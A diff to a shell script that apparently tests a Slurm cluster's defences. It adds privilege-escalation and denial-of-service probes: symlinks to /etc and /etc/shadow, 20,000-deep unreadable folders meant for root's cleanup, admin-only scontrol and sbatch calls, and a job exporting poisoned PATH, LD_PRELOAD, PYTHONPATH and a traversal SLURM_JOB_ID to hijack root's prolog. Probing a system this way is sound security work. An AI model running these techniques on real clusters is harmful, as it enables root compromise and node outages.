@@ -65,8 +65,32 @@ try grep --quiet . <(find /opt/podwright /opt/slurm /opt/ml /etc /usr/local /var
 try sh -c 'cat /proc/1/environ'
 try sudo --non-interactive true
 
-# Memory that the epilog clears: a link instead of a folder.
+# Memory that the epilog clears: a link instead of a folder, and folders in folders, as in the job's own.
 ln -s /etc /dev/shm/link
+for folder in /dev/shm "/scratch/jobs/$SLURM_JOB_ID"; do
+  cd "$folder" && python3 -c 'import os; [(os.mkdir("deep"), os.chdir("deep")) for _ in range(20000)]; os.chmod(".", 0)' \
+    </dev/null >/dev/null 2>&1 || echo "$folder holds no deep folders"
+done
+
+# What Slurm's administrators may do.
+try scontrol update "NodeName=$host" State=DRAIN Reason=attack
+try scontrol update "NodeName=$host" Features=attack
+try scontrol reconfigure
+try sbatch --uid=0 --wrap true
+try sbatch --reboot --wrap true
+try srun --overlap --bcast=/opt/podwright/attack true
+
+# An environment for root's programs before and after a job: what they start from it writes a file.
+evil=/fsx/runs/evil
+mkdir -m 777 $evil
+# shellcheck disable=SC2016 # for the shell that runs it
+for name in rm timeout squeue python3 profile; do printf '#!/bin/sh\ntouch %s/by-$(/usr/bin/id -u)\n' $evil >$evil/$name; done
+printf 'import os\nopen("%s/by-%%d" %% os.getuid(), "w")\n' $evil | tee $evil/sitecustomize.py >$evil/json.py
+chmod 755 $evil/*
+dangerous=PATH=$evil,PYTHONPATH=$evil,PYTHONHOME=$evil,LD_PRELOAD=$evil/x.so,ENV=$evil/profile,BASH_ENV=$evil/profile
+dangerous+=,SLURM_JOB_UID=0,SLURM_JOB_ID=../../etc,SPANK_PATH=$evil,SPANK_LD_PRELOAD=$evil/x.so
+cd /tmp || exit
+sbatch --quiet --wait --nodelist="$host" --chdir=$evil --output=/dev/null --export="$dangerous" --wrap '/bin/true'
 
 # The own home, last: nothing may follow its links, and no boot may fail.
 ln -sf /etc/shadow ~/.bashrc
